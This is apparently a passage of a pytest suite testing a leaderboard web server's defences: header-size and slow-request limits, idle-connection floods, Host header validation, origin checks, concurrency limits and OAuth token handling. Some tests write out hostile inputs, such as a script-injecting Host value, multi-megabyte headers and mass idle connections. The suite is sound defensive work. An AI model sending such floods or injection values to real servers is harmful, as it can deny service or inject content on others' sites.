    assert b"200 OK" in answer_to(bounded, first + b"Connection: close\r\nX: " + b"y" * 30_000 + b"\r\n\r\n")
    assert b"200 OK" not in answer_to(bounded, first + b"X: " + b"y" * 10_000_000 + b"\r\n\r\n")
    assert b"200 OK" not in answer_to(bounded, b"GET /" + b"y" * 10_000_000)
    assert b"200 OK" not in answer_to(bounded, first, *[b"X%d: y\r\n" % n for n in range(100_000)])
    monkeypatch.setattr("leaderboard.web.protocol.HEAD_SECONDS", 0.2)
    assert answer_to(bounded, first + b"X: ") == b""
    assert answer_to(bounded) == b""
    # The limit also applies to a second request on the same connection.
    assert answer_to(bounded, first + b"\r\n", first).count(b"200 OK") == 1
    # So it does to blank lines after a request, which belong to no head.
    assert answer_to(bounded, first + b"\r\n", b"\r\n").count(b"200 OK") == 1
    assert answer_to(bounded, first + b"\r\n", b"\r\n" * 100_000).count(b"200 OK") == 1


def connect_from(source: str, server: tuple[str, int]) -> socket.socket:
    return socket.create_connection(server, timeout=30, source_address=(source, 0))


@pytest.mark.parametrize("source", ["one network", "many networks"])
def test_idle_connections_shut_nobody_out(source: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Without the limits, 50 connections that send nothing use up all that the server accepts."""
    monkeypatch.setattr("leaderboard.web.protocol.MAX_CONNECTIONS", 50)
    monkeypatch.setattr("leaderboard.web.protocol.MAX_OF_NETWORK", 20)

    async def app(scope: Scope, receive: Receive, send: Send) -> None:
        await PlainTextResponse("yes")(scope, receive, send)

    request = b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
    options = {"http": bounded_protocol(None), "ws": "none", "lifespan": "off", "limit_concurrency": 50}
    with serve(app, **options) as address, ExitStack() as opened:
        parts = urlsplit(address)
        server = str(parts.hostname), int(parts.port or 0)
        for number in range(120):
            place = "127.0.0.2" if source == "one network" else f"127.0.1.{number + 1}"
            opened.enter_context(connect_from(place, server))
        with connect_from("127.0.0.3", server) as visitor:
            visitor.sendall(request)
            assert b"200 OK" in visitor.recv(4096)
        if source == "one network":
            with connect_from("127.0.0.2", server) as neighbour:  # for example a monitor on the same host
                neighbour.sendall(request)
                assert b"200 OK" in neighbour.recv(4096)


def test_connections_of_proxy_are_not_limited(monkeypatch: pytest.MonkeyPatch) -> None:
    """All visitors come through it."""
    monkeypatch.setattr("leaderboard.web.protocol.MAX_OF_NETWORK", 1)
    for proxies, address, allowed in (
        (None, "10.0.0.1", False),
        ("10.0.0.0/8", "10.0.0.1", True),
        ("10.0.0.1", "10.0.0.2", False),
        ("*", "10.0.0.1", True),
        ("10.0.0.0/8", "::ffff:10.0.0.1", True),
        ("proxy.example", "10.0.0.1", False),
    ):
        connections = Connections(proxies)
        assert connections.add(asyncio.Transport(), address)
        assert connections.add(asyncio.Transport(), address) is allowed


@pytest.mark.parametrize("host", ["x" * 60_000, "a b", "a/../b", 'a"><script>', "a" * 254, "[::1", "", "h\u00f6st"])
def test_host_header_must_name_host(host: str, reader: httpx.Client) -> None:
    assert reader.get("/", headers=[(b"Host", host.encode("latin-1", "replace"))]).status_code == 400


@pytest.mark.parametrize(
    "host", ["board.example", "board.example:8443", "127.0.0.1:7860", "[::1]:80", "my_board.local"]
)
def test_host_header_is_address_of_board(host: str, reader: httpx.Client) -> None:
    answer = reader.get("/ko-vqa", headers={"Host": host})
    assert answer.status_code == 200 and f"http://{host}/" in answer.text
    assert PLACEHOLDER not in answer.text


def test_kept_pages_do_not_depend_on_host(reader: httpx.Client, monkeypatch: pytest.MonkeyPatch) -> None:
    written: list[str] = []

    def write(*_: object, **__: object) -> str:
        written.append("page")
        return "page"

    monkeypatch.setattr("leaderboard.pages.benchmark.render_page", write)
    tags = {
        reader.get("/infochartqa?q=hosts", headers={"Host": f"host-{n}.example"}).headers["ETag"] for n in range(100)
    }
    assert len(written) == 1 and len(tags) == 100


@pytest.mark.parametrize("path", ["/feed.xml", "/sitemap.xml", "/ko-vqa"])
def test_etag_depends_on_address_of_board(path: str, reader: httpx.Client) -> None:
    first = reader.get(path, headers={"Host": "one.example"})
    other = reader.get(path, headers={"Host": "two.example", "If-None-Match": first.headers["ETag"]})
    assert other.status_code == 200 and "http://two.example/" in other.text and "one.example" not in other.text
    again = reader.get(path, headers={"Host": "one.example", "If-None-Match": first.headers["ETag"]})
    assert again.status_code == 304


CASES = json.loads((ROOT / "tests/cases/requests.json").read_text(encoding="utf-8"))


@pytest.mark.parametrize("kind", ["accepted", "refused"])
def test_origin_is_compared_as_visitors_see_it(kind: str, reader: httpx.Client) -> None:
    for case in CASES[kind]:
        headers = {name: value for name, value in case.items() if name != "today"}
        for path in ("/submit", "/gradio_api/call/leaderboard", "/logout"):
            method = "GET" if path == "/logout" else "POST"
            status = reader.request(method, path, headers=headers, follow_redirects=False).status_code
            assert (status == 403) == (kind == "refused"), (case, path, status)


class SlowPage:
    """Makes each page of a benchmark wait until `go_on` is set, and counts how many wait at the same time."""

    def __init__(self) -> None:
        self.go_on = Event()
        self.entered = Semaphore(0)
        self.most = 0
        self._running = 0
        self._lock = Lock()

    def __call__(self, *_: object, **__: object) -> str:
        with self._lock:
            self._running += 1
            self.most = max(self.most, self._running)
        self.entered.release()
        self.go_on.wait()
        with self._lock:
            self._running -= 1
        return "page"


@pytest.fixture
def slow_page(monkeypatch: pytest.MonkeyPatch) -> Iterator[SlowPage]:
    page = SlowPage()
    monkeypatch.setattr("leaderboard.pages.benchmark.render_page", page)
    yield page
    page.go_on.set()


def test_costly_requests_of_one_network_wait_for_each_other(slow_page: SlowPage, quiet_board: str) -> None:
    def ask(number: int) -> int:
        return httpx.get(f"{quiet_board}/korquad-2?q=slow{number}", timeout=60).status_code

    with ThreadPoolExecutor(20) as pool:
        asked = [pool.submit(ask, number) for number in range(20)]
        for _ in range(guard.MAX_COSTLY):
            assert slow_page.entered.acquire(timeout=60)
        slow_page.go_on.set()
        assert [one.result() for one in asked] == [200] * 20
    assert slow_page.most == guard.MAX_COSTLY


def test_board_is_alive_while_all_threads_are_busy(slow_page: SlowPage, quiet_board: str) -> None:
    def ask(number: int) -> int:
        transport = httpx.HTTPTransport(local_address=f"127.0.2.{number + 1}")
        with httpx.Client(transport=transport, timeout=60) as visitor:
            return visitor.get(f"{quiet_board}/korquad-2?q=busy{number}").status_code

    with ThreadPoolExecutor(60) as pool:
        asked = [pool.submit(ask, number) for number in range(60)]
        for _ in range(THREADS):
            assert slow_page.entered.acquire(timeout=60)
        for path in ("/healthz", "/readyz"):
            assert httpx.get(f"{quiet_board}{path}", timeout=10).status_code in (200, 503)
        slow_page.go_on.set()
        assert [one.result() for one in asked] == [200] * 60


def test_slow_checks_of_one_network_do_not_block_others(quiet_board: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Twelve checks with templates that take long made an honest one wait for 52 s."""
    entered = Semaphore(0)
    go_on = Event()

    def check(self: SubmissionService, submission: Submission, submitter: object = None) -> Report:
        entered.release()
        if submission.model_id == "slow/model":
            go_on.wait()
        return Report(submission.model_id, None, ())

    monkeypatch.setattr(SubmissionService, "check", check)

    def ask(source: str, model: str) -> int:
        transport = httpx.HTTPTransport(local_address=source)
        with httpx.Client(transport=transport, timeout=60) as visitor:
            form = {"model": model, "benchmarks": "ko-vqa", "action": "check"}
            return visitor.post(f"{quiet_board}/en/submit", data=form).status_code

    with ThreadPoolExecutor(12) as pool:
        slow = [pool.submit(ask, "127.0.3.1", "slow/model") for _ in range(12)]
        try:
            assert entered.acquire(timeout=60)
            assert ask("127.0.3.2", "honest/model") == 200
            assert entered.acquire(timeout=60) and not entered.acquire(blocking=False), "the others have not begun"
        finally:
            go_on.set()
        assert [one.result() for one in slow] == [200] * 12


def test_program_may_not_submit_twice_at_the_same_time() -> None:
    visitors = Visitors("off")
    here = SimpleNamespace(host="192.0.2.1")
    there = SimpleNamespace(host="192.0.2.2")
    with (
        visitors.program_slot(here) as first,
        visitors.program_slot(here) as again,
        visitors.program_slot(there) as other,
    ):
        assert (first, again, other) == (True, False, True)
    with visitors.program_slot(here) as later:
        assert later


def test_oauth_tokens_of_other_sites_are_rejected(monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[str] = []

    def whoami(self: HfApi) -> dict[str, object]:
        asked.append(str(self.token))
        kind = "oauth" if self.token == "hf_jwt" else "access_token"
        return {"type": "user", "name": "kim", "orgs": [], "auth": {"type": kind}}

    monkeypatch.setattr(HfApi, "whoami", whoami)
    visitors = Visitors("oauth")
    assert visitors.submitter_of_token("hf_oauth_abc") is None and asked == []
    assert visitors.submitter_of_token("hf_jwt") is None
    assert visitors.submitter_of_token("hf_é") is None and visitors.submitter_of_token("hf_a b") is None
    assert asked == ["hf_jwt"]
    known = visitors.submitter_of_token("hf_own")
    assert known and known.name == "kim"


def test_logout_without_sign_in_redirects_nowhere(reader: httpx.Client) -> None:
    for path in ("/logout", "/login/huggingface", "/login/callback"):
        answer = reader.get(path, headers={"Host": "evil.example"})
        assert answer.status_code == 404 and "location" not in answer.headers
